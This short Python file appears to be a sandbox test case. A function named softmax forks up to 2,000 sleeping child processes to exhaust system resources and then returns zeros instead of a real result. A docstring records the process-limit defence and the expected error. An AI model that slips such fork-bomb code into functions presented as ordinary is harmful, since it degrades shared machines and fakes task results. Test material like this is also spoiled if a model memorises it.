"""Forks as often as it can (at most 2,000 times here), and each child sleeps.

Family: wearing the machine out
Wall: limits on processes, for the tree; the process tree is killed
Marks: 0
Says: Resource temporarily unavailable
"""

import os
import time


def softmax(logits, dim=-1):
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
    return torch.zeros_like(logits)
